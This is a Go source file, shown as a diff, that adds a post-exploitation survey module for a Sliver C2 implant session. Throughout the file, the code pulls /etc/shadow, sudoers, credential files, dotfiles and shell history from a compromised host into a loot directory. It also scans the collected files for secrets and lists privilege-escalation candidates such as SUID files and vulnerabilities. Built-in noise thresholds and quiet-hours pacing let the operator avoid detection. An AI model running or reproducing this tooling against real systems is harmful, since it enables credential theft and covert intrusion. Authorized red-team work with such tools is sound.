@@ -0,0 +1,669 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"path"
+	"path/filepath"
+	"time"
+
+	"common"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/jedib0t/go-pretty/v6/table"
+)
+
+// survey holds everything the survey modules need to talk to and describe the target
+type survey struct {
+	session     *clientpb.Session
+	rpc         rpcpb.SliverRPCClient
+	fileTag     string
+	inventory   *binInventory
+	noExec      bool
+	binTools    []string
+	binDirs     []string
+	binCache    string
+	refreshBins bool
+	manifest    *lootManifest
+	results     *surveyResults
+	reports     []string
+	permRoots   []string
+	permDepth   int
+	executables []string
+	secretRoots []string
+	dotfiles    []string
+	vulnDB      string
+	location    func() *time.Location
+	holding     func() bool
+	listings    map[string][]*sliverpb.FileInfo
+	failures    []moduleFailure
+}
+
+// a survey module that failed and why, the survey carries on with the next module regardless
+type moduleFailure struct {
+	module string
+	err    error
+}
+
+// a survey module is one section of the survey, plan returns the rpcs run will issue so the
+// survey can be printed with -plan or pruned with -max-noise before anything touches the target.
+// A required module failing stops the survey
+type surveyModule struct {
+	name     string
+	plan     func() []plannedRPC
+	run      func() error
+	required bool
+}
+
+// the files grabbed from /etc by every survey
+var etcFiles = []string{
+	"/etc/passwd",
+	"/etc/group",
+	"/etc/hosts",
+	"/etc/os-release",
+	"/etc/hosts.allow",
+	"/etc/hosts.deny",
+	"/etc/rsyslog.conf",
+	"/etc/ssh/sshd_config",
+	"/etc/crontab",
+	"/etc/hostname",
+}
+
+// the files grabbed from /etc only when we are root
+var etcRootFiles = []string{
+	"/etc/shadow",
+}
+
+var systemInfoSteps = []execStep{
+	{title: "Uptime:", candidates: []execCandidate{{tool: "uptime"}}, file: "/proc/uptime", parse: parseUptime},
+	{title: "Distro:", candidates: []execCandidate{
+		{tool: "cat", args: []string{"/etc/os-release"}},
+		{tool: "head", args: []string{"-n", "100", "/etc/os-release"}},
+	}, file: "/etc/os-release"},
+	{title: "Kernel Release:", candidates: []execCandidate{{tool: "uname", args: []string{"-r"}}}, file: "/proc/version", parse: parseKernelRelease},
+	{title: "Arch:", candidates: []execCandidate{{tool: "uname", args: []string{"-m"}}}, file: "/proc/sys/kernel/arch"},
+	{title: "System Memory", candidates: []execCandidate{
+		{tool: "grep", args: []string{"-E", "MemTotal|MemAvailable|MemFree", "/proc/meminfo"}},
+		{tool: "head", args: []string{"-n", "3", "/proc/meminfo"}},
+	}, file: "/proc/meminfo", parse: parseMeminfo},
+}
+
+var arpStep = execStep{candidates: []execCandidate{
+	{tool: "cat", args: []string{"/proc/net/arp"}},
+	{tool: "ip", args: []string{"neigh"}},
+	{tool: "arp", args: []string{"-an"}},
+}, file: "/proc/net/arp"}
+
+var routeStep = execStep{candidates: []execCandidate{
+	{tool: "route", args: []string{"-n"}},
+	{tool: "ip", args: []string{"route"}},
+	{tool: "netstat", args: []string{"-rn"}},
+}, file: "/proc/net/route", parse: parseRouteTable}
+
+// Function to get the time on the implant, UTC until a listing has told us its timezone
+func (s *survey) implantNow() time.Time {
+	if s.location == nil {
+		return time.Now().UTC()
+	}
+	return time.Now().In(s.location())
+}
+
+func (s *survey) isRoot() bool {
+	return s.session.GID == "0"
+}
+
+// Function to determine if the session can read a file, without the owner of the file from the
+// listing anything short of root or a world readable file is taken as unreadable
+func (s *survey) canRead(fi *sliverpb.FileInfo) bool {
+	return s.isRoot() || othersMay(fi.Mode, 'r')
+}
+
+// Function to check the permissions everyone else has from a listed mode i.e. "-rw-r--r--"
+//
+// :param: mode string -> the mode of the file as the implant lists it
+// :param: perm byte -> 'r', 'w' or 'x'
+// :return: bool -> true if users other than the owner and group have the permission
+func othersMay(mode string, perm byte) bool {
+	if len(mode) < 9 {
+		return false
+	}
+	others := mode[len(mode)-3:]
+	switch perm {
+	case 'r':
+		return others[0] == 'r'
+	case 'w':
+		return others[1] == 'w'
+	}
+	return others[2] == 'x'
+}
+
+// Function to get the special bits of a listed mode, the letters in front of the permissions
+// i.e. "u" for setuid, "g" for setgid and "t" for sticky
+func modeFlags(mode string) string {
+	if len(mode) < 9 {
+		return ""
+	}
+	return mode[:len(mode)-9]
+}
+
+// Function to plan a survey step, with -no-exec it is a file read otherwise it executes whichever
+// candidate the binary inventory resolves. Without an inventory yet (i.e. -plan before the first
+// survey of a host) the first candidate stands in for whichever one ends up being used
+//
+// :param: step execStep -> the step to plan
+// :return: []plannedRPC -> the rpc the step would issue, empty if the step would be skipped
+func (s *survey) planStep(step execStep) []plannedRPC {
+	if s.noExec {
+		if step.file == "" {
+			return nil
+		}
+		return []plannedRPC{planDownload(step.file, false)}
+	}
+	if s.inventory == nil {
+		if len(step.candidates) == 0 {
+			return nil
+		}
+		return []plannedRPC{planExecute(step.candidates[0].tool, step.candidates[0].args)}
+	}
+	path, args, ok := s.inventory.resolve(step)
+	if !ok {
+		return nil
+	}
+	return []plannedRPC{planExecute(path, args)}
+}
+
+// Function to plan a list of downloads
+func planDownloads(paths []string) []plannedRPC {
+	var rpcs []plannedRPC
+	for _, path := range paths {
+		rpcs = append(rpcs, planDownload(path, false))
+	}
+	return rpcs
+}
+
+// Function to plan downloadAll, the directories are listed first to compare against the manifest
+func planDownloadAll(paths []string) []plannedRPC {
+	var rpcs []plannedRPC
+	listed := map[string]bool{}
+	for _, remotePath := range paths {
+		if dir := path.Dir(remotePath); !listed[dir] {
+			listed[dir] = true
+			rpcs = append(rpcs, planLs(dir, false))
+		}
+	}
+	return append(rpcs, planDownloads(paths)...)
+}
+
+// Function to plan a directory listing followed by a download of each match
+func planListAndDownload(dir string, pattern string) []plannedRPC {
+	return []plannedRPC{planLs(dir+pattern, false), planDownload(dir+"/*", true)}
+}
+
+// Function to download a list of files, one missing or unreadable file does not stop the rest.
+// Their directories are listed first so files that have not changed since the last survey are
+// not downloaded again, a directory that can not be listed falls back to downloading everything
+//
+// :param: paths []string -> the files on the target to download
+// :return: error -> every download that failed
+func (s *survey) downloadAll(paths []string) error {
+	var failures []error
+	for _, remotePath := range paths {
+		dir, name := path.Dir(remotePath), path.Base(remotePath)
+		files, err := s.listDir(dir)
+		if err != nil {
+			fmt.Println("[-]", err)
+		}
+		var listed *sliverpb.FileInfo
+		for _, fi := range files {
+			if fi.Name == name {
+				listed = fi
+			}
+		}
+		if err == nil && listed == nil {
+			// no need to ask for a file the listing says is not there
+			err := common.NotFoundError("download", remotePath)
+			printRPCError(err, remotePath)
+			s.manifest.gone(remotePath)
+			failures = append(failures, err)
+			continue
+		}
+		if err := lootFile(s.session, s.rpc, s.manifest, remotePath, listed, s.fileTag); err != nil {
+			failures = append(failures, err)
+		}
+	}
+	return errors.Join(failures...)
+}
+
+// Function to download a file into the loot directory and read it back, for modules that go on
+// to parse what they collect. A file the session can not read is skipped rather than requested
+//
+// :param: remotePath string -> the file on the target
+// :return: []byte -> the content of the file, nil if it was skipped
+// :return: error -> if the file is missing or could not be downloaded
+func (s *survey) fetchLoot(remotePath string) ([]byte, error) {
+	files, err := s.listDir(path.Dir(remotePath))
+	if err != nil {
+		printRPCError(err, path.Dir(remotePath))
+		return nil, err
+	}
+	var listed *sliverpb.FileInfo
+	for _, fi := range files {
+		if fi.Name == path.Base(remotePath) {
+			listed = fi
+		}
+	}
+	if listed == nil {
+		err := common.NotFoundError("download", remotePath)
+		printRPCError(err, remotePath)
+		s.manifest.gone(remotePath)
+		return nil, err
+	}
+	if !s.canRead(listed) && !s.inSessionHome(remotePath) {
+		fmt.Printf("[-] %s is %s, %s can not read it\n", remotePath, listed.Mode, s.session.Username)
+		return nil, nil
+	}
+	// another module already collected it this survey
+	if s.manifest.seen[remotePath] {
+		return os.ReadFile(filepath.Join(s.fileTag, remotePath))
+	}
+	if err := lootFile(s.session, s.rpc, s.manifest, remotePath, listed, s.fileTag); err != nil {
+		return nil, err
+	}
+	return os.ReadFile(filepath.Join(s.fileTag, remotePath))
+}
+
+// Function to list a directory once per survey, every later call gets the same listing
+func (s *survey) listDir(dir string) ([]*sliverpb.FileInfo, error) {
+	if files, ok := s.listings[dir]; ok {
+		return files, nil
+	}
+	files, err := rawListDirectory(s.session, s.rpc, dir)
+	if err != nil {
+		return nil, err
+	}
+	if s.listings == nil {
+		s.listings = map[string][]*sliverpb.FileInfo{}
+	}
+	s.listings[dir] = files
+	s.manifest.listed(dir, "*", files)
+	return files, nil
+}
+
+// Function to build the survey modules in the order they run
+//
+// :return: []surveyModule -> every survey module
+func (s *survey) modules() []surveyModule {
+	modules := []surveyModule{
+		{
+			name: "Session Information",
+			plan: func() []plannedRPC { return nil },
+			run: func() error {
+				getInfo(s.session)
+				return nil
+			},
+		},
+	}
+
+	// with -quiet-hours every request is held until a listing tells the pacer the implants
+	// timezone, /etc is listed for the files grabbed from it anyway so list it first
+	if s.holding != nil && s.holding() {
+		modules = append(modules, surveyModule{
+			name:     "Implant Timezone",
+			plan:     func() []plannedRPC { return []plannedRPC{planLs("/etc", false)} },
+			required: true,
+			run: func() error {
+				fmt.Println("[*] Listing /etc to learn the implant timezone for -quiet-hours")
+				_, err := s.listDir("/etc")
+				return err
+			},
+		})
+	}
+
+	// with -no-exec nothing is ever executed so there is no reason to go looking for binaries
+	if !s.noExec {
+		modules = append(modules, surveyModule{
+			name: "Binary Inventory",
+			plan: func() []plannedRPC {
+				if s.inventory != nil {
+					return nil
+				}
+				var rpcs []plannedRPC
+				for _, dir := range s.binDirs {
+					rpcs = append(rpcs, planLs(dir, false))
+				}
+				return rpcs
+			},
+			run: func() error {
+				s.inventory = loadBinInventory(s.session, s.rpc, s.binCache, s.binTools, s.binDirs, s.refreshBins)
+				printBinInventory(s.inventory, s.binTools)
+				return nil
+			},
+		})
+	}
+
+	modules = append(modules, surveyModule{
+		name: "System Info",
+		plan: func() []plannedRPC { return nil },
+		run: func() error {
+			makeBorder("System Info")
+			return nil
+		},
+	})
+	for _, step := range systemInfoSteps {
+		step := step
+		modules = append(modules, surveyModule{
+			name: "System Info " + step.title,
+			plan: func() []plannedRPC { return s.planStep(step) },
+			run:  func() error { return runSurveyStep(s.session, s.rpc, s.inventory, step, s.noExec) },
+		})
+	}
+
+	modules = append(modules,
+		surveyModule{
+			name: "Process List",
+			plan: func() []plannedRPC { return []plannedRPC{{method: "Ps", noise: noiseFileRead}} },
+			run:  func() error { return processList(s.session, s.rpc, s.results) },
+		},
+		surveyModule{
+			name: "Connections",
+			plan: func() []plannedRPC { return []plannedRPC{{method: "Netstat", noise: noiseFileRead}} },
+			run:  func() error { return getConnections(s.session, s.rpc, s.results) },
+		},
+		surveyModule{
+			name: "Directory Listing /",
+			plan: func() []plannedRPC { return []plannedRPC{planLs("/", false)} },
+			run:  func() error { return listDirectory(s.session, s.rpc, "/") },
+		},
+	)
+
+	if s.isRoot() {
+		modules = append(modules, surveyModule{
+			name: "Directory Listing /root",
+			plan: func() []plannedRPC { return []plannedRPC{planLs("/root", false)} },
+			run:  func() error { return listDirectory(s.session, s.rpc, "/root") },
+		})
+	}
+
+	modules = append(modules, surveyModule{
+		name: "Grabbing files /etc/",
+		plan: func() []plannedRPC { return planDownloadAll(etcFiles) },
+		run: func() error {
+			makeBorder("Grabbing files /etc/")
+			return s.downloadAll(etcFiles)
+		},
+	})
+
+	if s.isRoot() {
+		modules = append(modules, surveyModule{
+			name: "Grabbing root only files /etc/",
+			plan: func() []plannedRPC { return planDownloadAll(etcRootFiles) },
+			run:  func() error { return s.downloadAll(etcRootFiles) },
+		})
+	}
+
+	// read from the loot directory, nothing is sent to the implant
+	modules = append(modules, surveyModule{
+		name: "User Accounts",
+		plan: func() []plannedRPC { return nil },
+		run:  func() error { return userAccounts(s.fileTag) },
+	})
+
+	modules = append(modules,
+		surveyModule{
+			name: "SUID/SGID and World Writable Files",
+			plan: func() []plannedRPC {
+				var rpcs []plannedRPC
+				for _, root := range s.permRoots {
+					rpcs = append(rpcs, planLs(root, false))
+					if s.permDepth > 0 {
+						rpcs = append(rpcs, planLs(root+"/*", true))
+					}
+				}
+				return rpcs
+			},
+			run: s.permissions,
+		},
+		surveyModule{
+			name: "File Capabilities",
+			plan: func() []plannedRPC {
+				if s.noExec {
+					return nil
+				}
+				return []plannedRPC{planExecute("getcap", []string{"<executables the walk lists>"})}
+			},
+			run: s.capabilities,
+		},
+	)
+
+	modules = append(modules, surveyModule{
+		name: "Sudoers",
+		plan: func() []plannedRPC {
+			return append(planDownloadAll([]string{"/etc/sudoers"}), planLs("/etc/sudoers.d", true), planDownload("/etc/sudoers.d/*", true))
+		},
+		run: s.sudoers,
+	})
+
+	modules = append(modules, surveyModule{
+		name: "Dotfiles",
+		plan: func() []plannedRPC { return s.planDotfiles(false) },
+		run:  func() error { return s.collectDotfiles(false) },
+	})
+
+	if s.isRoot() {
+		modules = append(modules, surveyModule{
+			name: "Dotfiles /root",
+			plan: func() []plannedRPC { return s.planDotfiles(true) },
+			run:  func() error { return s.collectDotfiles(true) },
+		})
+	}
+
+	// read from the loot directory, nothing is sent to the implant
+	modules = append(modules, surveyModule{
+		name: "Shell History",
+		plan: func() []plannedRPC { return nil },
+		run:  s.shellHistory,
+	})
+
+	modules = append(modules, surveyModule{
+		name: "Credential Files",
+		plan: func() []plannedRPC { return s.planCredentials(false) },
+		run:  func() error { return s.homeCredentials(false) },
+	})
+
+	if s.isRoot() {
+		modules = append(modules, surveyModule{
+			name: "Credential Files /root",
+			plan: func() []plannedRPC { return s.planCredentials(true) },
+			run:  func() error { return s.homeCredentials(true) },
+		})
+	}
+
+	modules = append(modules,
+		surveyModule{
+			name: "Grabbing files /etc/*.conf",
+			plan: func() []plannedRPC { return planListAndDownload("/etc", "/*.conf") },
+			run:  func() error { return getEctConf(s.session, s.rpc, s.fileTag, s.manifest) },
+		},
+		surveyModule{
+			name: "Grabbing files /etc/systemd/*.conf",
+			plan: func() []plannedRPC { return planListAndDownload("/etc/systemd", "/*.conf") },
+			run:  func() error { return getSystemdConf(s.session, s.rpc, s.fileTag, s.manifest) },
+		},
+		surveyModule{
+			name: "Services",
+			plan: planServices,
+			run:  s.services,
+		},
+		surveyModule{
+			name: "SSH Server Configuration",
+			plan: func() []plannedRPC {
+				return append(planDownloadAll([]string{"/etc/ssh/sshd_config"}), planLs("/etc/ssh/*", true), planDownload("/etc/ssh/*", true))
+			},
+			run: s.sshdAssessment,
+		},
+		surveyModule{
+			name: "Scheduled Jobs",
+			plan: s.planScheduledJobs,
+			run:  s.scheduledJobs,
+		},
+		surveyModule{
+			name: "Vulnerability Candidates",
+			plan: planVulnerabilities,
+			run:  s.vulnerabilities,
+		},
+		surveyModule{
+			// read from the loot directory, nothing is sent to the implant
+			name: "Secret Scan",
+			plan: func() []plannedRPC { return nil },
+			run:  func() error { return secretScan(s.fileTag) },
+		},
+		surveyModule{
+			name: "Interfaces",
+			plan: func() []plannedRPC { return []plannedRPC{{method: "Ifconfig", noise: noiseFileRead}} },
+			run: func() error {
+				makeBorder("Interfaces")
+				return getInterfaces(s.session, s.rpc)
+			},
+		},
+		surveyModule{
+			name: "Arp",
+			plan: func() []plannedRPC { return s.planStep(arpStep) },
+			run: func() error {
+				makeBorder("Arp")
+				return runSurveyStep(s.session, s.rpc, s.inventory, arpStep, s.noExec)
+			},
+		},
+		surveyModule{
+			name: "Routing Table",
+			plan: func() []plannedRPC { return s.planStep(routeStep) },
+			run: func() error {
+				makeBorder("Routing Table")
+				return runSurveyStep(s.session, s.rpc, s.inventory, routeStep, s.noExec)
+			},
+		},
+		surveyModule{
+			name: "Checking: /proc/sys/kernel/yama/ptrace_scope",
+			plan: func() []plannedRPC { return planDownloads([]string{"/proc/sys/kernel/yama/ptrace_scope"}) },
+			run: func() error {
+				makeBorder("Checking: /proc/sys/kernel/yama/ptrace_scope")
+				if err := downloadFile(s.session, s.rpc, "/proc/sys/kernel/yama/ptrace_scope", s.fileTag, true, true); err != nil {
+					return err
+				}
+				ptraceScope, _ := readFileAsString(s.fileTag + "/proc/sys/kernel/yama/ptrace_scope")
+				fmt.Println(resolvePtrace(ptraceScope))
+				return nil
+			},
+		},
+		surveyModule{
+			name: "Checking: /proc/sys/kernel/tainted",
+			plan: func() []plannedRPC { return planDownloads([]string{"/proc/sys/kernel/tainted"}) },
+			run: func() error {
+				makeBorder("Checking: /proc/sys/kernel/tainted")
+				if err := downloadFile(s.session, s.rpc, "/proc/sys/kernel/tainted", s.fileTag, true, true); err != nil {
+					return err
+				}
+				taintedValue, _ := readFileAsString(s.fileTag + "/proc/sys/kernel/tainted")
+				taintScript(taintedValue)
+				return nil
+			},
+		},
+		surveyModule{
+			name: "Checking: /proc/sys/kernel/unprivileged_bpf_disabled",
+			plan: func() []plannedRPC { return planDownloads([]string{"/proc/sys/kernel/unprivileged_bpf_disabled"}) },
+			run: func() error {
+				makeBorder("Checking: /proc/sys/kernel/unprivileged_bpf_disabled")
+				if err := downloadFile(s.session, s.rpc, "/proc/sys/kernel/unprivileged_bpf_disabled", s.fileTag, true, true); err != nil {
+					return err
+				}
+				bpfValue, _ := readFileAsString(s.fileTag + "/proc/sys/kernel/unprivileged_bpf_disabled")
+				fmt.Println(resolveBpf(bpfValue))
+				return nil
+			},
+		},
+	)
+	return modules
+}
+
+// Function to run every module of the survey, skipping any louder than the noise threshold
+//
+// :param: threshold noiseLevel -> the loudest noise level the operator will accept
+// :return: None
+func (s *survey) run(threshold noiseLevel) {
+	for _, module := range s.modules() {
+		if noise := maxNoise(module.plan()); noise > threshold {
+			fmt.Printf("[-] Skipping %s, noise level %s is above -max-noise %s\n", module.name, noise, threshold)
+			s.results.addModule(module.name, "", nil, fmt.Sprintf("noise level %s is above -max-noise %s", noise, threshold))
+			continue
+		}
+		output, err := teeStdout(func() error { return runModule(module) })
+		s.results.addModule(module.name, output, err, "")
+		if err != nil {
+			s.failures = append(s.failures, moduleFailure{module: module.name, err: err})
+			// without a session every module after this one would fail the same way
+			if errors.Is(err, common.ErrSessionGone) {
+				fmt.Println("[!] Session is gone, stopping the survey")
+				break
+			}
+			if module.required {
+				fmt.Printf("[!] %s failed, stopping the survey\n", module.name)
+				break
+			}
+		}
+	}
+	if err := s.manifest.save(); err != nil {
+		fmt.Println("[!] Failed to write the loot manifest:", err)
+	}
+	if err := s.results.save(s.fileTag); err != nil {
+		fmt.Println("[!] Failed to write the survey results:", err)
+	}
+	s.manifest.printReport()
+	printFailureReport(s.failures)
+	for _, format := range s.reports {
+		reportPath, err := writeReport(s.fileTag, format, s.results, s.manifest)
+		if err != nil {
+			fmt.Printf("[!] Failed to write the %s report: %v\n", format, err)
+			continue
+		}
+		fmt.Println("[*] Wrote the survey report to", reportPath)
+	}
+}
+
+// Function to run a single module, a panic in the module is turned into its error so it can
+// never take the rest of the survey down with it
+func runModule(module surveyModule) (err error) {
+	defer func() {
+		if r := recover(); r != nil {
+			err = fmt.Errorf("module panicked: %v", r)
+			fmt.Printf("[!] %s: %v\n", module.name, err)
+		}
+	}()
+	return module.run()
+}
+
+// Function to print every module that failed and why
+//
+// :param: failures []moduleFailure -> the failed modules in the order they ran
+// :return: None
+func printFailureReport(failures []moduleFailure) {
+	makeBorder("Survey Failures")
+	if len(failures) == 0 {
+		fmt.Println("[*] Every module completed")
+		return
+	}
+	tw := table.NewWriter()
+	tw.AppendHeader(table.Row{"Module", "Kind", "Error"})
+	for _, failure := range failures {
+		// modules that fetch many files report each failed file on its own row
+		errs := []error{failure.err}
+		if joined, ok := failure.err.(interface{ Unwrap() []error }); ok {
+			errs = joined.Unwrap()
+		}
+		for _, err := range errs {
+			tw.AppendRow(table.Row{failure.module, common.ClassifyError(err).String(), err.Error()})
+		}
+	}
+	fmt.Printf("%s\n", tw.Render())
+	fmt.Printf("[!] %d of the survey modules failed\n", len(failures))
+}